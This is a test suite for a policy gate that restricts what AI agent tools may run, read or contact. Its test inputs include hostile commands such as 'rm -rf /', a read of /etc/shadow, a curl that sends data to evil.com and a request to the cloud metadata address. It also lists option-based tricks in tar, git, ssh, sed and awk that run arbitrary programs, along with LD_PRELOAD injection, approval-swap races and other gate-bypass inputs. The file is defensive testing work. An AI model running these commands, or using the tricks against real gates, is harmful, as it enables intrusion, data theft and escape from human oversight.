import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import type { Policy } from "../../../src/index.ts";
import { withPolicy } from "../../../src/index.ts";
import type { FenceOptions } from "../../../src/runtime.ts";
import { createFence } from "../../../src/runtime.ts";
import { denialOf, laterDenialOf } from "../../support/denied.ts";
import { folder } from "../../support/folder.ts";
import type { Reviewed } from "../../support/manifest.ts";
import { manifestOf } from "../../support/manifest.ts";

/** What somebody tried who set out to get past the gate, and once did. */
const fenceOf = (tools: Readonly<Record<string, Reviewed>>, options: Partial<FenceOptions> = {}): ReturnType<typeof createFence> =>
  createFence({ manifest: manifestOf(tools, options.config), ...options });
const verdict = (policy: Policy, input: unknown, facts?: readonly string[], workspace = "/toolfence-none"): string => {
  const fence = fenceOf({ tool: { policy, ...(facts ? { facts, unknowns: [] } : {}) } }, { workspace });
  return fence.explain("tool", input).denial?.id ?? "allow";
};

describe("a tool that may start what runs elsewhere", () => {
  test.each(["docker", "ssh", "kubectl"])("runs nothing here: %s", (program) => {
    const policy = { exec: [program] };
    expect(verdict(policy, { command: "id -un" })).toBe("command.outside");
    expect(verdict(policy, { command: "id -un" }, ["exec.shell {dynamic}"])).toBe("command.outside");
    expect(verdict(policy, { command: "rm -rf /" })).toMatch(/^(?:command|path)\./u);
    expect(verdict(policy, { path: "/etc/shadow" })).toMatch(/^path\./u);
    // The code starts nothing else, and says so.
    expect(verdict(policy, { command: "id -un" }, [`exec.spawn ${program} {dynamic}`])).toBe("allow");
  });
});

describe("names", () => {
  test("the end of another name is no name", () => {
    const fence = fenceOf({ "admin.delete": { policy: { fs: { write: "any" } } } });
    expect(denialOf(fence.wrap(() => 1, { name: "delete" }))).toBe("tool.unknown");
    expect(denialOf(fence.wrap(() => 1, { name: "admin.delete" }))).toBe("ran");
  });
  test("nor is it what had to be completed first", () => {
    const fence = fenceOf({ "mock.login": { policy: {} }, act: { policy: { constraints: { onlyAfter: ["login"] } } } });
    fence.wrap(() => 1, { name: "mock.login" })();
    expect(denialOf(fence.wrap(() => 1, { name: "act" }))).toBe("constraint.order");
  });
});

describe("hosts", () => {
  const policy: Policy = { net: ["https://api.example.com"] };
  test.each([
    "evil.com",
    "x:443@evil.com",
    "api.example.com:443@evil.com",
    "u:p@evil.com",
    "evil.com/a b",
    "evil.com?a b",
    "ev\til.com",
    "metadata",
  ])("`%s` behind a scheme", (host) => {
    expect(verdict(policy, { host }, ["net.connect https://{param:host}"])).toBe("net.outside");
    expect(verdict(policy, { host })).toBe("net.outside");
  });
  test("what is granted stays granted, and what speaks to nobody is none", () => {
    expect(verdict(policy, { host: "api.example.com" }, ["net.connect https://{param:host}"])).toBe("allow");
    expect(verdict(policy, { url: "about:blank" }, ["net.connect {param:url}"])).toBe("allow");
    expect(verdict(policy, { url: "not a url" }, ["net.connect {param:url}"])).toBe("net.outside");
  });
  test("a URL that a command fetches", () => {
    const both: Policy = { exec: ["curl", "git", "echo"], net: ["https://api.example.com"] };
    expect(verdict(both, { command: "curl http://169.254.169.254/latest" })).toBe("net.outside");
    expect(verdict(both, { command: "curl https://evil.com -d x" })).toBe("net.outside");
    expect(verdict(both, { command: "curl https://api.example.com/x" })).toBe("allow");
    expect(verdict(both, { command: "echo https://evil.com" })).toBe("allow");
  });
});

describe("where a command runs", () => {
  const place = (): string => {
    const workspace = folder({ "sub/.env": "K=v", "sub/ok": "" });
    symlinkSync("/etc/hostname", join(workspace, "sub/link"));
    return workspace;
  };
  const policy: Policy = { exec: ["cat"], fs: { read: ["$WORKSPACE/**"] } };
  test("its words mean what is there", () => {
    const workspace = place();
    for (const word of [".env", "link"]) {
      expect(verdict(policy, { command: `cat sub/${word}` }, undefined, workspace), word).toMatch(/^path\./u);
      expect(verdict(policy, { command: `cat ${word}`, cwd: "sub" }, undefined, workspace), word).toMatch(/^path\./u);
      expect(verdict(policy, { command: "cat", args: [word], workdir: "sub" }, undefined, workspace), word).toMatch(/^path\./u);
    }
    expect(verdict(policy, { command: "cat ok", cwd: "sub" }, undefined, workspace)).toBe("allow");
  });
  test("also for the gated input and output", async () => {
    const workspace = place();
    const fence = fenceOf({ tool: { policy } }, { workspace });
    const { io } = await import("../../../src/index.ts");
    const run = (word: string) => fence.wrap(async () => (await io.exec("cat", [word], { cwd: "sub" })).stdout, { name: "tool" })();
    expect(await laterDenialOf(() => run(".env"))).toMatch(/^path\./u);
    expect(await laterDenialOf(() => run("link"))).toMatch(/^path\./u);
  });
});

describe("arguments by position", () => {
  const read = { policy: { fs: { read: ["$WORKSPACE/**"] } } satisfies Policy, facts: ["fs.read {param:path}"], unknowns: [] };
  test("a text alone is any of them, and the second one counts", () => {
    const fence = fenceOf({ read });
    expect(denialOf(() => fence.wrap((path: string) => path, { name: "read" })("/usr/x"))).toBe("path.outside");
    expect(denialOf(() => withPolicy({ fs: { read: ["$WORKSPACE/**"] } }, (_: string, path: string) => path)("x", "/usr/x"))).toBe(
      "path.outside",
    );
    expect(withPolicy({ fs: { read: ["$WORKSPACE/**"] } }, (label: string, path: string) => label + path)("x", "in")).toBe("xin");
  });
  test("what comes behind an object is the framework's", () => {
    const executor = withPolicy({}, (_: { a: string }, context: readonly string[]) => context[0]);
    expect(executor({ a: "b" }, ["/usr/x"])).toBe("/usr/x");
  });
});

test("every executor of a tool is gated", () => {
  const fence = fenceOf({ tool: { policy: { constraints: { forbidden: true } } } });
  const tool = fence.wrap({ name: "tool", execute: () => 1, handler: () => 2, invoke: () => 3, func: () => 4 });
  expect([tool.execute, tool.handler, tool.invoke, tool.func].map((one) => denialOf(one))).toEqual(Array(4).fill("tool.forbidden"));
});

test("a set of tools may hold some that run elsewhere", () => {
  const fence = fenceOf({ here: { policy: {} } });
  const there = { description: "runs at the client", inputSchema: {} };
  const tools = fence.wrap({ here: { execute: () => 1 }, there });
  expect([tools.here.execute(), tools.there]).toEqual([1, there]);
  expect(() => fence.wrap({ there })).toThrow("None of the tools");
});

describe("while somebody is waited for", () => {
  const config = { commandRules: [{ command: { command: "git", args: ["push"] }, decision: "ask" as const }] };
  const tools = { tool: { policy: { exec: ["git"] } } };
  test("a command that has to be asked for is asked for, also when it comes later", async () => {
    const fence = fenceOf(tools, { config, approve: () => "deny", interceptors: [async () => Promise.resolve({ k: "proceed" as const })] });
    const input = { command: "git status" };
    const ran = fence.wrap(async (given: { command: string }) => Promise.resolve(given.command), { name: "tool" })(input);
    input.command = "git push";
    expect(await laterDenialOf(() => ran)).toBe("approval.denied");
  });
  test("what was approved is what runs", async () => {
    const input = { command: "git push" };
    const approve = () => {
      input.command = "git status";
      return "once" as const;
    };
    const fence = fenceOf(tools, { config, approve });
    const ran = fence.wrap(async (given: { command: string }) => Promise.resolve(given.command), { name: "tool" })(input);
    expect(await laterDenialOf(() => ran)).toBe("approval.denied");
  });
  test("an interceptor that fails has refused", async () => {
    const interceptors = [
      (): never => {
        throw new Error("x");
      },
    ];
    const fence = fenceOf({ tool: { policy: {} } }, { interceptors });
    expect(await laterDenialOf(() => fence.wrap(async () => Promise.resolve(1), { name: "tool" })())).toBe("interceptor.denied");
  });
  test("an interceptor that gives no answer has refused", async () => {
    const fence = fenceOf({ tool: { policy: {} } }, { interceptors: [() => ({ k: "bogus" }) as never] });
    expect(await laterDenialOf(() => fence.wrap(async () => Promise.resolve(1), { name: "tool" })())).toBe("interceptor.denied");
  });
});

describe("programs that run what their options say", () => {
  test.each([
    "tar -xf a.tar --to-comm='id'",
    "tar cf b.tar --checkpoint=1 --checkpoint-ac='exec=id' x",
    "tar -cIx.sh -f a.tar b",
    "tar cIf x.sh a.tar b",
    "sort --compress-prog=x a",
    "rsync -ave id a b",
    "rsync --rs=id a b",
    "fd -Hx id",
    "fd --exec=id",
    "grep -nf x y",
    "jq -rf x",
    "curl -sK x",
    "man -aPid x",
    "awk 'BEGIN{system(\"id\")}'",
    "sed 1eid x",
    "sed '1w /tmp/evil' x",
    "git rebase --exec id",
    "git bisect run id",
    "git submodule foreach id",
    "git difftool -x id",
    "git clone --config=core.sshCommand=id a",
    "git ls-remote --upload-pac=id a",
    "git config core.pager id",
    "ssh -oProxyCommand=id host",
  ])("%s", (command) => {
    const [program = ""] = command.split(" ");
    expect(verdict({ exec: [program], fs: { read: ["$WORKSPACE/**"], write: ["$WORKSPACE/**"] } }, { command })).not.toBe("allow");
  });
  test.each([
    "tar -xzf a.tar",
    "sort -u a",
    "rsync -av a b",
    "grep -n x y",
    "awk '{print $1}' x",
    "sed -n 1,5p x",
    "sed s/a/b/g x",
    "git log --oneline",
    "git commit -m x",
    "curl -s https://example.com",
    "jq .a x",
  ])("and not: %s", (command) => {
    const [program = ""] = command.split(" ");
    expect(verdict({ exec: [program], fs: { read: ["$WORKSPACE/**"], write: ["$WORKSPACE/**"] } }, { command })).toBe("allow");
  });
  test.each(["sort -oin/a.txt x", "sort -onew x", "sort -uonew x", "sort --outp=new x", "sort -o new x", "uniq x in/a.txt"])(
    "writes: %s",
    (command) => {
      const [program = ""] = command.split(" ");
      expect(verdict({ exec: [program], fs: { read: ["$WORKSPACE/**"] } }, { command })).toBe("path.outside");
    },
  );
});

describe("arguments that cost much are refused, and soon", () => {
  const words = Array.from({ length: 30_000 }, () => "w");
  test.each<[string, unknown]>([
    ["a line of 32,000 pipes", { command: `${"a|".repeat(32_000)}a` }],
    ["a list of 20,000 equal words", { command: Array(20_000).fill("a") }],
    ["3,000 commands with one long list", { commands: Array.from({ length: 3000 }, () => ({ command: "a", args: words })) }],
    ["20,000 lines", { commands: Array(20_000).fill("a b") }],
    ["90,000 paths", { paths: Array(90_000).fill("in/x") }],
    ["a word of 65,000 letters", { command: "a".repeat(65_000) }],
    ["21,000 keywords", { command: `${"if ".repeat(21_000)}id` }],
  ])("%s", (_name, input) => {
    const start = performance.now();
    expect(verdict({ exec: ["ls"], fs: { read: ["$WORKSPACE/**"] } }, input)).not.toBe("allow");
    // Far more than it takes; it took minutes, or all of the memory.
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});

test("a secret is out before a text is cut", async () => {
  const dir = folder({});
  mkdirSync(join(dir, "log"));
  writeFileSync(join(dir, "x"), "");
  const file = join(dir, "log/audit.jsonl");
  const fence = fenceOf({ tool: { policy: {} } }, { audit: { file }, redact: { values: ["TopSecretValue-0123456789"] } });
  const failing = fence.wrap(
    () => {
      throw new Error(`${"z".repeat(1972)}TopSecretValue-0123456789`);
    },
    { name: "tool" },
  );
  expect(() => failing()).toThrow("zzz");
  const { readFileSync } = await import("node:fs");
  expect(readFileSync(file, "utf8")).not.toContain("TopSecret");
});

describe("limits of a stream", () => {
  const parts = async (limits: Policy["limits"], wait: number): Promise<{ parts: string[]; denial: string }> => {
    const stream = withPolicy({ limits }, async function* () {
      for (let part = 0; part < 5; part++) {
        await new Promise((resolve) => setTimeout(resolve, wait));
        yield "0123456789";
      }
    });
    const found: string[] = [];
    const denial = await laterDenialOf(async () => {
      for await (const part of stream()) found.push(part);
    });
    return { parts: found, denial };
  };
  test("its parts together are no longer than one result", async () => {
    expect(await parts({ outputBytes: 25 }, 0)).toEqual({
      parts: ["0123456789", "0123456789", "01234\n[cut: 5 more characters]"],
      denial: "ran",
    });
  });
  test("nor does it take longer", async () => {
    const { parts: found, denial } = await parts({ timeMs: 150 }, 100);
    expect([found.length, denial]).toEqual([1, "limit.time"]);
  });
});

test.each([
  { env: { NODE_OPTIONS: "--import=x" } },
  { options: { env: { NODE_OPTIONS: "--import=x" } } },
  { env: [{ name: "LD_PRELOAD", value: "x" }] },
  { env: [["LD_PRELOAD", "x"]] },
  { spawnEnv: { LD_PRELOAD: "x" } },
])("a variable that decides what programs load: %j", (input) => {
  expect(verdict({ exec: ["ls"] }, { command: "ls", ...input })).toBe("env.dangerous");
});

test.each([{ program: "id", args: ["-un"] }, { executable: "id" }, { binary: "id" }, { cmds: ["ls", "id"] }, { bash: "id -un" }])(
  "a program under another name: %j",
  (input) => {
    expect(verdict({ exec: ["ls"] }, input)).toBe("command.outside");
  },
);
